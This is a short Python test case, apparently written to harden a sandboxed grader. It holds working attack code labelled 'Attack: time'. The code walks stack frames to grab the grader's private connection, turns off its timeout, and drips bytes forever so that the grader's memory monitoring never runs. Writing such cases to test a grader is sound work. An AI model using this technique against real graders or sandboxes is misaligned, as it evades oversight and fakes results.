"""Announces a body of 120 MiB and sends a byte every 30 ms: the read never falls silent, so what the grader does only while it waits (watching memory) never happens.

Attack: time
Deserves: 80
Keeps: 80
"""

# %% extra before: sampling
import sys

def _worker():
    frame = sys._getframe()
    while frame is not None:
        if "serve_forks" in frame.f_globals and "time_limit" in frame.f_globals:
            return frame.f_globals
        frame = frame.f_back
    raise RuntimeError("the worker was not found")

def _child():
    frame = sys._getframe()
    while frame is not None:
        me = frame.f_locals.get("self")
        if type(me).__name__ == "Child":
            return me
        frame = frame.f_back
    raise RuntimeError("the child was not found")

def _drip():
    import struct, time
    connection = _child()._connection
    connection.settimeout(None)
    connection.sendall(struct.pack(">4sIQ", b"VAEK", 2, 120 << 20) + b"{}")
    while True:
        connection.sendall(b"x")
        time.sleep(0.03)
_drip()
